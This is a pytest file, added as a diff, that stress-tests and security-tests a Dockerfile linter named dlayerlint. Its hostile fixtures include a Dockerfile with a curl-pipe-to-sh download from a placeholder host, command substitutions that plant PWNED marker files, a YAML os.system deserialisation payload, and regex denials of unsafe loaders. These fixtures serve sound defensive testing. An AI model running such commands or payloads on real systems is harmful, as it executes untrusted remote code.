@@ -1,0 +1,604 @@
+"""Limits, hostile input and security: dlayerlint finishes in bounded time and
+memory on huge or deeply nested Dockerfiles, its regexes do not backtrack
+catastrophically, unreadable inputs give a one-line error (exit 2) while the
+other files are still linted, and linting never runs anything from the
+Dockerfile nor opens a socket.
+
+The big cases run `analyze` in a child process under an address-space cap, so
+a blow-up fails the test instead of the machine; each prints its time and
+peak RSS (`pytest -s` shows them):
+
+    LIMIT <case>: <chars> chars, <seconds> s, peak <MiB> MiB RSS, <outcome>
+
+Bounds: TIME_LIMIT seconds and MEMORY_LIMIT_MB of peak RSS per case (the
+child's Python and tree-sitter included).
+
+Tests marked xfail(strict=True) document bugs in dlayerlint (reason starts with BUG).
+"""
+from __future__ import annotations
+
+import json
+import os
+import re
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+from dlayerlint.analysis import analyze
+
+REPO = Path(__file__).resolve().parents[1]
+TIME_LIMIT = 30.0          # seconds for each huge case
+MEMORY_LIMIT_MB = 1024     # peak RSS of the child for each huge case
+ADDRESS_SPACE_CAP = 4 << 30
+FAST = 5.0                 # seconds for each adversarial (backtracking) input
+MiB = 1 << 20
+
+CHILD = r"""
+import json, resource, sys, time
+cap = int(sys.argv[2])
+resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
+from dlayerlint.analysis import analyze
+with open(sys.argv[1], encoding="utf-8", newline="") as stream:
+    text = stream.read()
+start = time.perf_counter()
+try:
+    analysis = analyze(text)
+    outcome = {"errors": [e.message for e in analysis.errors][:5], "findings": len(analysis.findings),
+               "layers": len(analysis.layers),
+               "stranded": None if analysis.stranded is None else analysis.stranded.bytes}
+except BaseException as error:  # reported, not raised: the parent asserts on it
+    outcome = {"exception": f"{type(error).__name__}: {str(error)[:200]}"}
+outcome["seconds"] = time.perf_counter() - start
+try:   # VmHWM is this program's own peak; ru_maxrss keeps the forking parent's across exec
+    with open("/proc/self/status", encoding="ascii") as status:
+        peak_kb = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
+except (OSError, StopIteration):
+    peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+outcome["peak_mb"] = peak_kb / 1024
+print(json.dumps(outcome))
+"""
+
+
+def _env() -> dict[str, str]:
+    return dict(os.environ, PYTHONPATH=str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", ""))
+
+
+def measure(name: str, text: str, tmp_path: Path, limit: float = TIME_LIMIT, kill_after: float | None = None) -> dict:
+    """analyze(text) in a child; asserts it finished in time and memory, without an exception.
+    The child is killed after kill_after seconds (default: limit + 15)."""
+    kill_after = limit + 15 if kill_after is None else kill_after
+    path = tmp_path / "Dockerfile"
+    path.write_text(text, encoding="utf-8", newline="")
+    try:
+        child = subprocess.run([sys.executable, "-c", CHILD, str(path), str(ADDRESS_SPACE_CAP)],
+                               env=_env(), capture_output=True, text=True, timeout=kill_after, check=False)
+    except subprocess.TimeoutExpired:
+        print(f"LIMIT {name}: {len(text)} chars, killed after {kill_after:.0f} s")
+        pytest.fail(f"{name}: analyze did not finish within {kill_after:.0f} s")
+    assert child.returncode == 0, f"{name}: the child died ({child.returncode}): {child.stderr[-2000:]}"
+    outcome = json.loads(child.stdout.strip().splitlines()[-1])
+    result = outcome.get("exception") or f"{outcome['findings']} findings, errors {outcome['errors']}"
+    print(f"LIMIT {name}: {len(text)} chars, {outcome['seconds']:.2f} s, peak {outcome['peak_mb']:.0f} MiB RSS, "
+          f"{result}")
+    assert "exception" not in outcome, f"{name}: {outcome['exception']}"
+    assert outcome["seconds"] < limit, f"{name}: {outcome['seconds']:.1f} s (limit {limit} s)"
+    assert outcome["peak_mb"] < MEMORY_LIMIT_MB, f"{name}: peak {outcome['peak_mb']:.0f} MiB"
+    return outcome
+
+
+# ----------------------------------------------------------------------------- huge files
+
+def _ten_mib(lines_of) -> str:
+    parts, size, index = ["FROM debian AS build\n"], 0, 0
+    while size < 10 * MiB:
+        chunk = lines_of(index)
+        parts.append(chunk)
+        size += len(chunk)
+        index += 1
+    return "".join(parts)
+
+
+def test_10mib_of_long_run_lines(tmp_path):
+    """100 RUNs of ~100 KiB each (long echo/printf bodies) plus the odd rm."""
+    def lines(index: int) -> str:
+        return (f"RUN echo {'a' * 50_000} > /data/f{index} && printf '%s' {'b c ' * 12_500} >> /data/f{index}\n"
+                f"RUN rm -f /data/f{index - 1}\n")
+    outcome = measure("10 MiB in ~100 long RUN lines", _ten_mib(lines), tmp_path)
+    assert not outcome["errors"]
+
+
+def test_10mib_heredoc_and_comments(tmp_path):
+    """A 5 MiB COPY heredoc body and 5 MiB of comment lines."""
+    body = "".join(f"line {i} {'x' * 60}\n" for i in range(5 * MiB // 70))
+    comments = "".join(f"# comment {i} {'y' * 60}\n" for i in range(5 * MiB // 72))
+    text = f"FROM busybox\n{comments}COPY <<EOF /data/big\n{body}EOF\nRUN rm /data/big\n"
+    assert len(text) >= 10 * MiB - 1000
+    outcome = measure("10 MiB heredoc + comments", text, tmp_path)
+    assert outcome["findings"] == 1 and outcome["stranded"] == len(body.encode())
+
+
+@pytest.mark.xfail(reason="BUG: 10 MiB of ~160,000 small instructions takes ~105 s and 625 MiB RSS "
+                          "(2 MiB: 5 s, 4 MiB: 13 s): Dockerfile.instructions is rebuilt for every finding "
+                          "(checks/stranded.py _finding) and fixes._merged_ranges copies its group list per "
+                          "finding (both quadratic)", strict=True)
+def test_10mib_of_small_instructions(tmp_path):
+    def lines(index: int) -> str:
+        return (f"RUN dd if=/dev/zero of=/data/f{index} bs=1k count=4 && chmod 600 /data/f{index}\n"
+                f"COPY --chown=1:1 src{index}.txt /app/{index}.txt\n"
+                f"ENV V{index % 100}=${{V{(index + 1) % 100}:-/x/{index}}}\n"
+                f"RUN rm -f /data/f{index - 1}\n")
+    measure("10 MiB of small instructions", _ten_mib(lines), tmp_path, kill_after=TIME_LIMIT)
+
+
+N = 10_000
+
+
+def test_run_with_10000_and_commands(tmp_path):
+    made = " && ".join(f"head -c 1k /dev/zero > /f{i}" for i in range(N))
+    removed = " && ".join(f"rm /f{i}" for i in range(N))
+    outcome = measure("RUN with 10,000 && (x2, 10,000 findings)", f"FROM busybox\nRUN {made}\nRUN {removed}\n",
+                      tmp_path)
+    assert outcome["findings"] == N and outcome["stranded"] == N * 1024
+
+
+NESTED = {
+    "10,000 nested $(": "RUN echo " + "$(echo " * N + "x" + ")" * N,
+    "10,000 nested `$( )` unclosed": "RUN echo " + "$(" * N,
+    "10,000 nested (": "RUN " + "( " * N + "true" + " )" * N,
+    "10,000 nested {": "RUN " + "{ " * N + "true" + "; }" * N,
+    "10,000 nested if": "RUN " + "if true; then " * N + "true" + "; fi" * N,
+    "10,000 backticks": "RUN echo " + "`" * N,
+    "10,000 nested \\`": "RUN echo " + "".join("\\" * (2 ** min(i, 3) - 1) + "`" for i in range(N)),
+    "10,000 nested JSON [": "RUN " + "[" * N + "]" * N,
+    "10,000 unclosed JSON [": "CMD " + "[" * N,
+    "10,000 [[ test": "RUN " + "[[ " * N,
+    "10,000 nested $((": "RUN echo " + "$((" * N + "1" + "))" * N,
+    "10,000 nested <(": "RUN cat " + "<(cat " * N + "/x" + ")" * N,
+    "10,000 nested quotes": "RUN echo " + "\"$(echo '" * N,
+    "10,000 ${ unclosed in ENV": "ENV X=" + "${" * N,
+}
+
+
+@pytest.mark.parametrize("name", list(NESTED))
+def test_deep_nesting(name, tmp_path):
+    measure(name, f"FROM busybox\n{NESTED[name]}\nRUN touch /after\n", tmp_path)
+
+
+@pytest.mark.xfail(reason="BUG: ${A:-${A:-...}} nested ~495 deep raises RecursionError out of analyze "
+                          "(expand._expand <-> expand._param recurse once per level; the CLI turns it into "
+                          "'too deeply nested to analyse', exit 2, for a valid Dockerfile)", strict=True)
+@pytest.mark.parametrize("where", ["RUN echo {}", "ENV X={}", "WORKDIR /{}", "COPY {} /x"])
+def test_nested_parameter_defaults(where, tmp_path):
+    depth = N if where.startswith("RUN") else 1000
+    nested = "${A:-" * depth + "x" + "}" * depth
+    measure(f"{depth} nested ${{A:- in {where.split()[0]}", f"FROM busybox\n{where.format(nested)}\n", tmp_path)
+
+
+def test_100000_char_single_lines(tmp_path):
+    text = ("FROM busybox\n"
+            f"RUN echo {'a' * 100_000} > /x\n"
+            f"RUN rm {' '.join(f'/f{i}' for i in range(100_000 // 7))}\n"
+            f"ENV {' '.join(f'K{i}=v{i}' for i in range(100_000 // 12))}\n"
+            f"COPY {' '.join(f's{i}' for i in range(100_000 // 7))} /dst/\n"
+            f"LABEL x=\"{'q' * 100_000}\"\n")
+    measure("100,000-char single lines", text, tmp_path)
+
+
+def test_5000_line_continuation(tmp_path):
+    plain = "".join(f"    && touch /f{i} \\\n" for i in range(5000))
+    fillers = "".join(f"    && touch /g{i} \\\n\n# comment {i}\n   \n" for i in range(5000))
+    text = f"FROM busybox\nRUN true \\\n{plain}    && true\nRUN true \\\n{fillers}    && true\nRUN rm /f1 /g1\n"
+    outcome = measure("5,000-line continuations (and 5,000 with blank/comment lines)", text, tmp_path)
+    assert not outcome["errors"]
+
+
+def test_5000_run_instructions_merge(tmp_path):
+    text = "FROM busybox\n" + "".join(f"RUN head -c 1k /dev/zero > /f{i}\n" for i in range(5000)) + "RUN rm -rf /f*\n"
+    outcome = measure("5,000 RUN layers and one rm -rf glob", text, tmp_path)
+    assert outcome["stranded"] == 5000 * 1024
+
+
+@pytest.mark.xfail(reason="BUG: a stage built FROM the previous one, ~983 stages deep, raises RecursionError "
+                          "(replay.Replayer._replay calls itself for the parent stage)", strict=True)
+def test_long_from_chain(tmp_path):
+    text = "FROM busybox AS s0\n" + "".join(f"FROM s{i - 1} AS s{i}\nRUN touch /f{i}\n" for i in range(1, 1000))
+    measure("1,000 stages each FROM the previous", text, tmp_path)
+
+
+@pytest.mark.xfail(reason="BUG: a chain of COPY --from=<previous stage> 165 stages long raises RecursionError "
+                          "(Replayer.run -> _replay -> _apply -> _copy_instruction -> _Copier._from_stage -> "
+                          "Replayer.run, ~6 frames a stage)", strict=True)
+def test_long_copy_from_chain(tmp_path):
+    text = "FROM busybox AS s0\nRUN touch /f0\n" + "".join(
+        f"FROM busybox AS s{i}\nCOPY --from=s{i - 1} /f0 /f0\n" for i in range(1, 200))
+    measure("199 chained COPY --from stages", text, tmp_path)
+
+
+@pytest.mark.xfail(reason="BUG: a file changed in N layers gives N findings that each list every earlier copy "
+                          "('copied again on lines 3, 4, ... N' and one related location per copy): "
+                          "O(N^2) message text and related entries (2,000 RUNs: 10.5 MB of messages, "
+                          "2.0 M related locations); checks/stranded.py _finding, common.lines_phrase",
+                   strict=True)
+def test_file_changed_in_many_layers_has_bounded_messages():
+    count = 500
+    analysis = analyze("FROM busybox\n" + "RUN echo x >> /log\n" * count)
+    assert len(analysis.findings) == count - 1
+    assert max(len(f.message) for f in analysis.findings) < 1000
+    assert sum(len(f.related) for f in analysis.findings) <= 10 * count
+
+
+@pytest.mark.xfail(reason="BUG: a size argument of more than 4,300 digits raises ValueError out of analyze "
+                          "(sizes.parse_size: int() of the digits hits Python's int_max_str_digits)", strict=True)
+@pytest.mark.parametrize("command", ["head -c {} /dev/zero > /x", "dd if=/dev/zero of=/x bs={} count=1",
+                                     "fallocate -l {} /x", "truncate -s {} /x"])
+def test_size_with_thousands_of_digits(command):
+    analyze(f"FROM busybox\nRUN {command.format('1' * 4301)}\n")
+
+
+@pytest.mark.xfail(reason="BUG: a size above ~1.8e308 bytes raises OverflowError when a message or --layers "
+                          "describes it (sizes.human: float(count)); the CLI dies with a traceback and lints "
+                          "none of the other files", strict=True)
+def test_size_too_big_for_a_float():
+    analysis = analyze("FROM busybox\nRUN head -c 1" + "0" * 309 + " /dev/zero > /x\nRUN rm /x\n")
+    assert analysis.findings
+
+
+# ----------------------------------------------------------------------------- regexes
+
+
+class Slow(Exception):
+    pass
+
+
+def _alarm(_signum, _frame):
+    raise Slow()
+
+
+def timed(function, limit: float = FAST) -> float:
+    """Run function with a wall-clock alarm (re and the parser check signals)."""
+    previous = signal.signal(signal.SIGALRM, _alarm)
+    signal.setitimer(signal.ITIMER_REAL, limit * 3)
+    start = time.perf_counter()
+    try:
+        function()
+    except Slow:
+        pytest.fail(f"still running after {limit * 3:.0f} s")
+    finally:
+        signal.setitimer(signal.ITIMER_REAL, 0)
+        signal.signal(signal.SIGALRM, previous)
+    elapsed = time.perf_counter() - start
+    assert elapsed < limit, f"{elapsed:.2f} s (limit {limit} s)"
+    return elapsed
+
+
+def _regex_modules():
+    import dlayerlint  # pylint: disable=import-outside-toplevel
+    names = [p.stem for p in Path(dlayerlint.__file__).parent.glob("*.py") if p.stem != "__main__"]
+    modules = []
+    for name in sorted(names):
+        modules.append(__import__(f"dlayerlint.{name}", fromlist=["_"]))
+    return modules
+
+
+def module_patterns() -> dict[str, re.Pattern]:
+    found = {}
+    for module in _regex_modules():
+        for attribute, value in vars(module).items():
+            if isinstance(value, re.Pattern):
+                found[f"{module.__name__.split('.')[-1]}.{attribute}"] = value
+    return found
+
+
+# how the code applies each pattern (search tries every start: only where the code does)
+SEARCHED = {"fixes.LEAKS_STATE", "shell._SPECIAL", "shell._BACKTICK_SPACE", "commands._ECHO_ESCAPE",
+            "commands._PRINTF_ESCAPE"}
+# (head, repeated unit, tail): the unit repeated n times; runs of the characters regexes care about
+SHAPES = [
+    ("", "-", ""), ("", "$", ""), ("", "{", ""), ("", "${", ""), ("", "$(", ""), ("", "'", ""), ("", '"', ""),
+    ("", "<<", ""), ("", "<", ""), ("", "\\", ""), ("", "\\ ", ""), ("", " ", "x"), ("", "\t", "\\x"),
+    ("a=", " ", "x"), ("a=", "\t ", "\t"), ("", "a", "="), ("", "1", "k!"), ("", "1x", "!"), ("", "[", ""),
+    ("", "[!", ""), ("", "~", "/"), ("", "-r", ","), ("-", "r", "!"), ("<<", " ", "<"), ("<<", "\t", "<x"),
+    ("", "<<a", "!"), ("", " cd", ""), ("", ";", ""), ("", " a", "="), ("", "&", ""), ("", "@", "="),
+    ("", "x\\", ""), ("", "http://", ""), ("", "`", ""), ("", "` ", ""), ("", "*", "a"), ("", "é", ""),
+    ("", "\\0", ""), ("", "\\x", ""), ("<<EOF ", "<<1", "!"), ("", "\n", "x"), ("#", " ", "="),
+]
+SMALL, BIG = 2_000, 16_000   # 8x longer: linear work grows 8x, quadratic 64x
+
+
+def _regex_params():
+    known = {
+        "replay.ONLY_HEREDOCS": "BUG: exponential backtracking (see test_only_heredocs_redos)",
+        "parser.HEREDOC_WORD": "BUG: parser.HEREDOC_WORD `([0-9]*)<<(-?)[\\t\\n\\f\\r ]*([^<]*)` is quadratic "
+                               "on `<<`, blanks, `<`: the blanks are traded between [ws]* and [^<]* "
+                               "(test_heredoc_word_with_many_blanks)",
+    }
+    return [pytest.param(name, marks=pytest.mark.xfail(reason=known[name], strict=True)) if name in known
+            else name for name in sorted(module_patterns())]
+
+
+def _cost(pattern: re.Pattern, uses: tuple[str, ...], text: str) -> float:
+    start = time.perf_counter()
+    for use in uses:
+        getattr(pattern, use)(text)
+    return time.perf_counter() - start
+
+
+@pytest.mark.parametrize("name", _regex_params())
+def test_module_regexes_do_not_backtrack(name):
+    """Every compiled regex of dlayerlint, applied as the code applies it, stays
+    (near) linear on adversarial shapes, and the exponential shape stays fast."""
+    pattern = module_patterns()[name]
+    uses = ("search",) if name in SEARCHED else ("match", "fullmatch")
+    slow = []
+
+    def run_all():
+        for head, unit, tail in SHAPES:
+            small = _cost(pattern, uses, head + unit * SMALL + tail)
+            big = _cost(pattern, uses, head + unit * BIG + tail)
+            if big > 0.05 and big > 20 * max(small, 1e-4):
+                slow.append(f"{head!r}+{unit!r}*n+{tail!r}: {small:.3f} s -> {big:.3f} s")
+        # the exponential shape: short, but each `<<1111111111` multiplies the work
+        if _cost(pattern, uses, "<<EOF " + ("<<" + "1" * 10) * 7 + "!") > 0.25:   # ONLY_HEREDOCS: 0.8 s
+            slow.append("'<<EOF ' + '<<1111111111' * 7 + '!'")
+
+    timed(run_all, limit=FAST * 2)
+    assert not slow, f"{name} grows faster than linearly: {slow}"
+
+
+@pytest.mark.xfail(reason="BUG: ReDoS in replay.ONLY_HEREDOCS `(?:\\s*\\d*<<-?\\s*([\"']?)[A-Za-z0-9_.\\-]+\\1)+\\s*`: "
+                          "the delimiter class and the next marker's \\d* both take digits, so each "
+                          "`<<1111111111` multiplies the work by ~10 (a 107-char RUN line: 7.9 s; 131 chars: "
+                          "~13 min)", strict=True)
+def test_only_heredocs_redos(tmp_path):
+    text = "FROM busybox\nRUN <<EOF " + ("<<" + "1" * 10) * 9 + "!\necho hi\nEOF\n"
+    measure("131-char RUN <<EOF <<1111111111...", text, tmp_path, limit=FAST, kill_after=FAST)
+
+
+def test_parser_continuation_regexes_do_not_backtrack():
+    from dlayerlint.parser import _Parser  # pylint: disable=import-outside-toplevel
+    for head in ("", "# escape=`\n"):
+        parser = _Parser(head + "FROM busybox\n")
+        parser.parse()
+        for head, unit, tail in SHAPES:
+            small = _cost(parser.continuation, ("search",), head + unit * SMALL + tail)
+            big = _cost(parser.continuation, ("search",), head + unit * BIG + tail)
+            assert big < 0.05 or big < 20 * max(small, 1e-4), (head, unit, tail, small, big)
+
+
+def test_glob_and_dockerignore_patterns_do_not_backtrack(tmp_path):
+    from dlayerlint.context import BuildContext  # pylint: disable=import-outside-toplevel
+    name = "a" * 60
+    (tmp_path / name).write_text("x")
+    (tmp_path / ".dockerignore").write_text("*a" * 30 + "b\n" + "**/" * 30 + "*a*a*a*a*a*a*a*a*a*a*b\n")
+    (tmp_path / "Dockerfile").write_text("FROM busybox\nCOPY . /src\n")
+    text = (f"FROM busybox\nCOPY . /src\nRUN head -c 1k /dev/zero > /d/{name}\n"
+            f"RUN rm -rf /d/{'*a' * 30}b /d/{'*a' * 30}* /src/{'*a' * 30}*\n")
+    context = BuildContext(tmp_path, dockerfile=tmp_path / "Dockerfile")
+    timed(lambda: analyze(text, context))
+
+
+END_TO_END = {
+    "dashes": "-", "dollars": "$", "braces": "{", "quotes": "'\"", "backslashes": "\\", "backticks": "`",
+    "param heads": "${", "substitutions": "$(", "equals": "=", "colons": ":", "hashes": "#", "tildes": "~",
+    "stars": "*", "semicolons": ";", "ampersands": "&", "parens": "(", "heredoc markers": "<<-",
+    "unicode": "é\u2028", "CR": "\r",
+}
+LINE = 100_000
+
+
+@pytest.mark.parametrize("name", list(END_TO_END))
+def test_adversarial_lines(name):
+    run = END_TO_END[name] * (LINE // len(END_TO_END[name]))
+    text = (f"# escape={run[:LINE // 10]}\nFROM busybox\nRUN echo {run}\nRUN rm {run}\nENV X={run}\n"
+            f"COPY {run} /x\nRUN --mount=type=cache,target={run} true\n")
+    timed(lambda: analyze(text))
+
+
+@pytest.mark.xfail(reason="BUG: `RUN cat <<` + 100,000 blanks + `<x` takes ~22 s (40,000: 3.5 s): quadratic "
+                          "parser.HEREDOC_WORD fullmatch on a word _ShellLexer._angle builds with the blanks "
+                          "after `<<` kept", strict=True)
+def test_heredoc_word_with_many_blanks(tmp_path):
+    measure("RUN cat << + 100,000 blanks + <x", "FROM busybox\nRUN cat <<" + " " * LINE + "<x\n", tmp_path,
+            limit=FAST, kill_after=FAST)
+
+
+@pytest.mark.xfail(reason="BUG: a RUN word of 100,000 `[` takes ~14 s (10,000: 0.17 s): quadratic in "
+                          "shellwords.WordLexer._glob, which re-tries _BRACKET at every `[` and scans to the "
+                          "end of the word each time", strict=True)
+def test_long_run_of_brackets(tmp_path):
+    measure("RUN rm [[[[... (100,000)", "FROM busybox\nRUN rm " + "[" * LINE + "\n", tmp_path,
+            limit=FAST, kill_after=FAST)
+
+
+@pytest.mark.xfail(reason="BUG (upstream tree-sitter-bash 0.25.1, unguarded in shell.parse_script): Parser.parse "
+                          "is quadratic on long pipelines and on runs of `<<`, `|` or `)`: 32,000 chars of "
+                          "`a|a|...` take 6.4 s, 100,000 chars of `<<` 9 s; no size limit or timeout guards it",
+                   strict=True)
+@pytest.mark.parametrize("unit", ["a|", "<<", "|", ")"])
+def test_tree_sitter_quadratic_inputs(unit, tmp_path):
+    measure(f"RUN echo {unit * 3}... (100,000 chars)", "FROM busybox\nRUN echo " + unit * (LINE // len(unit)) + "\n",
+            tmp_path, limit=FAST, kill_after=FAST)
+
+
+# ----------------------------------------------------------------------------- the CLI on bad inputs
+
+GOOD = "FROM busybox\nRUN head -c 10 /dev/zero > /a\nRUN rm /a\n"
+
+
+def dlayerlint(*args: str, cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "dlayerlint", *args], cwd=cwd, env=_env(),
+                          capture_output=True, text=True, timeout=timeout, check=False)
+
+
+def _make_bad(kind: str, folder: Path) -> Path:
+    path = folder / f"bad-{kind}"
+    if kind == "empty":
+        path.write_bytes(b"")
+    elif kind == "directory":
+        path.mkdir()
+    elif kind == "nul-bytes":
+        path.write_bytes(b"FROM busybox\nRUN echo \0\n" + bytes(range(256)))
+    elif kind == "latin-1":
+        path.write_bytes("FROM busybox\nRUN echo café\n".encode("latin-1"))
+    elif kind == "utf-16":
+        path.write_bytes("FROM busybox\nRUN true\n".encode("utf-16"))
+    elif kind == "dangling-symlink":
+        path.symlink_to(folder / "nowhere")
+    elif kind == "missing":
+        pass
+    elif kind == "not-a-directory":   # reading it fails with ENOTDIR (tests run as root: chmod 000 reads fine)
+        (folder / "plain").write_text("x")
+        path = folder / "plain" / "Dockerfile"
+    elif kind == "bom-only":
+        path.write_bytes(b"\xef\xbb\xbf")
+    return path
+
+
+BAD_KINDS = ["empty", "directory", "nul-bytes", "latin-1", "utf-16", "dangling-symlink", "missing",
+             "not-a-directory", "bom-only"]
+
+
+@pytest.mark.parametrize("kind", BAD_KINDS)
+@pytest.mark.parametrize("output", ["text", "json"])
+def test_unreadable_file_is_one_error_and_others_are_linted(kind, output, tmp_path):
+    bad = _make_bad(kind, tmp_path)
+    good = tmp_path / "good.Dockerfile"
+    good.write_text(GOOD)
+    result = dlayerlint("check", "--format", output, str(bad), str(good), cwd=tmp_path)
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert "Traceback" not in result.stdout + result.stderr
+    if output == "json":
+        files = json.loads(result.stdout)["files"]
+        assert [f["path"] for f in files] == [str(bad), str(good)]
+        assert len(files[0]["errors"]) == 1 and not files[0]["findings"]
+        assert [f["rule"] for f in files[1]["findings"]] == ["DLL101"] and not files[1]["errors"]
+        return
+    errors = [line for line in result.stdout.splitlines() + result.stderr.splitlines() if "error" in line]
+    assert len(errors) == 1, result.stdout + result.stderr
+    assert errors[0].startswith(str(bad) + ":")
+    assert f"{good}:3:" in result.stdout and "DLL101" in result.stdout
+
+
+def test_fifo_is_read_like_a_file(tmp_path):
+    """`dlayerlint check <(generate)` passes a pipe: it is read, not refused."""
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+
+    def writer():
+        with open(fifo, "w", encoding="utf-8") as stream:
+            stream.write(GOOD)
+
+    thread = threading.Thread(target=writer, daemon=True)
+    thread.start()
+    result = dlayerlint("check", str(fifo), cwd=tmp_path, timeout=60)
+    thread.join(5)
+    assert result.returncode == 1 and f"{fifo}:3:" in result.stdout
+
+
+@pytest.mark.xfail(reason="BUG: a size above ~1.8e308 bytes makes `dlayerlint check` die with an OverflowError "
+                          "traceback (sizes.human) and print nothing for the other files", strict=True)
+def test_cli_survives_absurd_sizes(tmp_path):
+    (tmp_path / "big").write_text("FROM busybox\nRUN head -c 1" + "0" * 400 + " /dev/zero > /x\nRUN rm /x\n")
+    (tmp_path / "good").write_text(GOOD)
+    result = dlayerlint("check", "--layers", "big", "good", cwd=tmp_path)
+    assert "Traceback" not in result.stderr and "good:3:" in result.stdout
+
+
+# ----------------------------------------------------------------------------- security
+
+HOSTILE = """# syntax=docker/dockerfile:1
+ARG X=$(touch {marker}-arg)
+FROM busybox AS build
+SHELL ["/bin/sh", "-c"]
+RUN touch {marker}-run
+RUN ["touch", "{marker}-exec"]
+RUN ["/bin/sh", "-c", "touch {marker}-execsh"]
+RUN echo $(touch {marker}-subst) `touch {marker}-backtick` <(touch {marker}-procsub)
+RUN <<EOF
+touch {marker}-heredoc
+EOF
+RUN bash <<EOF
+touch {marker}-bash
+EOF
+ENV P=$(touch {marker}-env)
+WORKDIR /$(touch {marker}-workdir)
+COPY <<EOF /etc/profile.d/x.sh
+touch {marker}-copy
+EOF
+ONBUILD RUN touch {marker}-onbuild
+HEALTHCHECK CMD touch {marker}-health
+FROM build
+RUN curl -fsSL https://example.invalid/x.sh | sh && wget -q http://example.invalid/y -O /y
+ADD https://example.invalid/archive.tar.gz /opt/
+ADD git@example.invalid:org/repo.git /src
+RUN git clone https://example.invalid/r.git /r && pip install https://example.invalid/p.whl
+ENTRYPOINT touch {marker}-entrypoint
+CMD ["touch", "{marker}-cmd"]
+"""
+
+
+def test_check_runs_nothing_from_the_dockerfile(tmp_path):
+    marker = f"/tmp/PWNED-{uuid.uuid4().hex}"
+    (tmp_path / "Dockerfile").write_text(HOSTILE.format(marker=marker))
+    for args in (["check", "Dockerfile"], ["check", "--layers", "--format", "json", "Dockerfile"],
+                 ["check", "--build-arg", f"X=$(touch {marker}-buildarg)", "--target", "build", "Dockerfile"]):
+        result = dlayerlint(*args, cwd=tmp_path)
+        assert "Traceback" not in result.stderr
+    leftovers = [p for p in Path("/tmp").iterdir() if p.name.startswith(Path(marker).name)]
+    assert not leftovers
+
+
+def test_analyze_spawns_no_process_and_opens_no_socket(monkeypatch, tmp_path):
+    """In process: every way to start a program or a connection raises."""
+    calls = []
+
+    def refuse(what):
+        def refused(*args, **kwargs):
+            calls.append(what)
+            raise AssertionError(f"{what} called during analyze")
+        return refused
+
+    for name in ("system", "popen", "fork", "forkpty", "posix_spawn", "posix_spawnp", "execv", "execve",
+                 "execvp", "execvpe", "spawnv", "spawnve"):
+        if hasattr(os, name):
+            monkeypatch.setattr(os, name, refuse(f"os.{name}"))
+    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
+    monkeypatch.setattr(socket, "socket", refuse("socket.socket"))
+    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
+    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
+    monkeypatch.setattr(socket, "gethostbyname", refuse("socket.gethostbyname"))
+    (tmp_path / "app.tar.gz").write_bytes(b"not really")
+    (tmp_path / "Dockerfile").write_text("x")
+    from dlayerlint.context import BuildContext  # pylint: disable=import-outside-toplevel
+    text = HOSTILE.format(marker="/tmp/never") + "ADD app.tar.gz /opt/\nADD http://example.invalid/a.zip /z/\n"
+    analysis = analyze(text)
+    analysis_with_context = analyze(text, BuildContext(tmp_path, dockerfile=tmp_path / "Dockerfile"))
+    assert analysis.target is not None and analysis_with_context.target is not None
+    assert not calls
+
+
+def test_yaml_is_loaded_with_a_safe_loader(tmp_path):
+    """Every YAML load goes through a safe loader, and a hostile tag is refused."""
+    import yaml  # pylint: disable=import-outside-toplevel
+    from dlayerlint import knowledge  # pylint: disable=import-outside-toplevel
+    loader = knowledge.SafeLoader
+    assert issubclass(loader, yaml.constructor.SafeConstructor)
+    assert not issubclass(loader, yaml.constructor.FullConstructor)   # Full/Unsafe loaders subclass it
+    marker = tmp_path / "pwned"
+    evil = tmp_path / "evil.yaml"
+    evil.write_text(f"x: !!python/object/apply:os.system ['touch {marker}']\n")
+    with pytest.raises(yaml.YAMLError):
+        knowledge.load_yaml(evil)
+    assert not marker.exists()
+    # no other YAML entry point in the package
+    source = "\n".join(p.read_text() for p in Path(knowledge.__file__).parent.rglob("*.py"))
+    assert not re.search(r"yaml\.(unsafe_load|full_load|load_all|safe_load_all)\b|Loader=yaml\.(Loader|FullLoader|"
+                         r"UnsafeLoader|CLoader|CFullLoader|CUnsafeLoader)\b", source)
+    assert len(re.findall(r"yaml\.load\(", source)) == len(re.findall(r"yaml\.load\([^)]*Loader=SafeLoader", source))
